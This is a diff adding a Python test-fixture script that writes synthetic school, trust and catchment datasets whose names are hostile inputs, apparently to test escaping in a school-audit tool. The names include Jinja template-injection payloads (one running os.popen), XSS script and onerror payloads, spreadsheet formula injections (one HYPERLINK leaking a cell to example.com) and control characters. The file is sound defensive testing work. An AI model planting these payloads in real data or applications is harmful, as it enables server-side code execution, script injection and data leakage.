@@ -1,0 +1,77 @@
+"""Write this folder's hostile files from the bundled synthetic sample: school, trust, LA and catchment
+names that are template code, script, HTML or spreadsheet formulas. Run it again after changing a name:
+    python tests/hostile/outputs/make_cases.py"""
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+SAMPLE = HERE.parents[2] / "repaudit" / "sample_data"
+
+# Audited schools of the sample (URN -> hostile name); the planted ones first, so they top every ranking.
+SCHOOL_NAMES = {
+    "990010": "{{ 7*7 }} Primary",
+    "990015": "{% if 1 %}x{% endif %} Vale",
+    "990003": "{{ self.__init__.__globals__ }}",
+    "990001": "{{ cycler.__init__.__globals__.os.popen('touch TEMPLATE_RAN').read() }}",
+    "990020": "</script><script>alert(1)</script>",
+    "990011": "<img src=x onerror=alert(1)>",
+    "990012": '=HYPERLINK("http://example.com/?leak="&A2,"x")',
+    "990021": "+1+2 Primary",
+    "990022": "-3+4 Primary",
+    "990024": "@SUM(1,1) Primary",
+    "990025": "\tTab Primary",
+}
+TRUST_NAMES = {
+    "Northfield Learning Trust (synthetic)": "{{ 7*7 }} Learning Trust",
+    "Riverside Academies Trust (synthetic)": "=1+1 Academies Trust",
+}
+LA_NAME = "{{ 6*7 }} <b>Shire</b>"
+CATCHMENT_NAMES = {"990003": "{{ 7*7 }} catchment </script><img src=x onerror=alert(1)>"}
+CONTROL_NAMES = {"990010": "Nul\x00Vt\x0bEsc\x1b Primary"}
+
+
+def _read_gias() -> tuple[str, list[list[str]]]:
+    raw = (SAMPLE / "synthetic_edubasealldata20240901.csv").read_bytes()
+    for encoding in ("utf-8", "cp1252"):
+        try:
+            text = raw.decode(encoding)
+            break
+        except UnicodeDecodeError:
+            continue
+    return encoding, list(csv.reader(io.StringIO(text, newline="")))
+
+
+def write_gias(path: Path, schools: dict, trusts: dict, la_name: str | None) -> None:
+    encoding, rows = _read_gias()
+    header = rows[0]
+    urn, name, trust, la = (header.index(c) for c in ("URN", "EstablishmentName", "Trusts (name)", "LA (name)"))
+    for row in rows[1:]:
+        row[name] = schools.get(row[urn], row[name])
+        row[trust] = trusts.get(row[trust], row[trust])
+        if la_name is not None:
+            row[la] = la_name
+    out = io.StringIO(newline="")
+    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
+    path.write_bytes(out.getvalue().encode(encoding))
+
+
+def write_catchments(path: Path) -> None:
+    data = json.loads((SAMPLE / "synthetic_secondary_catchments.geojson").read_text(encoding="utf-8"))
+    for feature in data["features"]:
+        props = feature["properties"]
+        props["catchment"] = CATCHMENT_NAMES.get(str(props["URN"]), props["catchment"])
+    path.write_text(json.dumps(data), encoding="utf-8")
+
+
+def main() -> None:
+    write_gias(HERE / "gias_hostile_names.csv", SCHOOL_NAMES, TRUST_NAMES, LA_NAME)
+    write_gias(HERE / "gias_control_characters.csv", CONTROL_NAMES, {}, None)
+    write_catchments(HERE / "catchments_hostile_names.geojson")
+
+
+if __name__ == "__main__":
+    main()
